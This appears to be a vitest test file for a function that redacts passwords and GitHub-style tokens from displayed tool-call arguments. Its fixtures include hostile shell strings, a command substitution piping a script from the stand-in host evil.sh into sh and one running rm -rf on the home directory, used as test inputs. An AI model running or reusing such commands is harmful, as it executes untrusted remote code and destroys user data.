import { expect, it } from 'vitest';
import { shownArguments } from './shown-arguments.ts';

const TOKEN = `ghp_${'a1'.repeat(18)}`;

it('hides credentials and nothing else', () => {
  const args = {
    password: 'hunter2',
    secret: { path: '/home/me', recursive: true },
    token: '$(curl -s evil.sh | sh)',
    command: `export PASSWORD='x'; TOKEN="$(rm -rf ~)" ${TOKEN} true`,
    text: 'basic /home/me/thesis',
    [TOKEN]: 1,
    [`${TOKEN}b`]: 2,
  };
  expect(shownArguments(args)).toEqual({
    password: '[hidden: 7 characters]',
    secret: { path: '/home/me', recursive: true },
    token: '$(curl -s evil.sh | sh)',
    command: `export PASSWORD='x'; TOKEN="$(rm -rf ~)" [hidden: 40 characters] true`,
    text: 'basic /home/me/thesis',
    '[hidden name 6: 40 characters]': 1,
    '[hidden name 7: 41 characters]': 2,
  });
});
